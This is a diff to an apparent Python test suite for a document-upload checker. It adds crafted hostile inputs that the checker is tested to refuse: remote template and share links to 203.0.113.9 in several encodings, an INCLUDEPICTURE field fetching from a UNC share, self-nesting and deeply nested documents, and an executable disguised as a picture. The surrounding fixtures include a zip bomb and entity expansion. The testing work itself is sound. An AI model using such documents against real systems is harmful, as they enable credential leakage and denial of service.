@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import random
 import struct
 import zipfile
 from collections.abc import Callable
@@ -111,6 +112,18 @@ def nested(depth: int) -> bytes:
     return content
 
 
+def endless() -> bytes:
+    """A document that holds itself as deep as anybody looks, under a name that says nothing."""
+    content = files.docx()
+    for _ in range(40):
+        content = files.docx(more={"word/embeddings/inner": content})
+    return content
+
+
+FETCHING = '<w:p><w:r><w:instrText> INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\x.png" </w:instrText></w:r></w:p>'
+_DRAWN = random.Random(7)
+RANDOM = b"".join(bytes([_DRAWN.randrange(0x81, 0xFE), _DRAWN.randrange(0xA1, 0xFE)]) for _ in range(200))
+RANDOM_16 = b"".join(struct.pack("<H", _DRAWN.choice((*range(0x100, 0xD800), *range(0xE000, 0xFFFE)))) for _ in range(300))
 BOMB = files.docx(more={"word/media/zeros.xml": b"<a>" + b"0" * (30 * MB) + b"</a>"})
 ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:hdr xmlns:w="x">&b;</w:hdr>'
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
@@ -161,6 +174,19 @@ HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "a DDE field": ("a.docx", lambda: files.docx(body=DDE), "dde"),
     "a template from elsewhere": ("a.docx", lambda: linked("http://203.0.113.9/x.dotm"), "remote"),
     "a template from a share": ("a.docx", lambda: linked("\\\\203.0.113.9\\x.dotm"), "remote"),
+    "a template from a host": ("a.docx", lambda: linked("file://203.0.113.9/x.dotm"), "remote"),
+    "a template from a share by slashes": ("a.docx", lambda: linked("file://///203.0.113.9/x.dotm"), "remote"),
+    "a template from a share written out": ("a.docx", lambda: linked("file:///%5C%5C203.0.113.9%5Cx.dotm"), "remote"),
+    "a link to a share": ("a.docx", lambda: linked("file:///\\\\203.0.113.9\\x", "hyperlink"), "remote"),
+    "a field that fetches": ("a.docx", lambda: files.docx(body=FETCHING), "remote"),
+    "elements without end": ("a.docx", lambda: files.docx(body="<w:p>" * 5000 + "</w:p>" * 5000), "nesting"),
+    "a file in itself without end": ("a.docx", endless, "nesting"),
+    "a container with another name": ("a.docx", lambda: files.docx(more={"word/media/a.png": nested(3)}), "nesting"),
+    "a program called picture": ("a.docx", lambda: files.docx(more={"word/media/a.png": b"MZ\x90" * 9}), "ole"),
+    "random bytes called txt": ("a.txt", lambda: RANDOM, "suffix"),
+    "random bytes in UTF-16": ("a.txt", lambda: b"\xff\xfe" + RANDOM_16, "suffix"),
+    "an open quote": ("a.csv", lambda: '单位,数\n甲镇,"3\n乙镇,4\n'.encode(), "quote"),
+    "an ofd whose document is missing": ("a.ofd", lambda: files.ofd(root="Doc_1/Document.xml"), "suffix"),
     "a frame from elsewhere": ("a.docx", lambda: linked("page.html", "frame"), "remote"),
     "entities": ("a.docx", lambda: files.docx(more={"word/header2.xml": ENTITIES}), "entity"),
     "a zip bomb": ("a.docx", lambda: BOMB, "bomb"),
@@ -197,6 +223,7 @@ def test_what_is_hostile_damaged_or_mislabelled_is_refused(what: str) -> None:
 
 @pytest.mark.parametrize(("name", "content"), [
     ("a.pdf", files.pdf()), ("a.docx", files.docx()), ("a.xlsx", files.xlsx()), ("a.ofd", files.ofd()),
+    ("small.ofd", files.ofd(root="Doc.xml")), ("old.txt", "進展順利，水庫除險加固工程已完成百分之六十。".encode()),
     ("a.txt", "进展顺利。".encode()), ("b.txt", "进展顺利。".encode("gb18030")), ("c.txt", "进展顺利。".encode("utf-16")),
     ("a.csv", "单位,数\n甲镇,3\n".encode()), ("A.PDF", files.pdf()), ("link.docx", linked("https://example.org/", "hyperlink")),
 ])  # fmt: skip
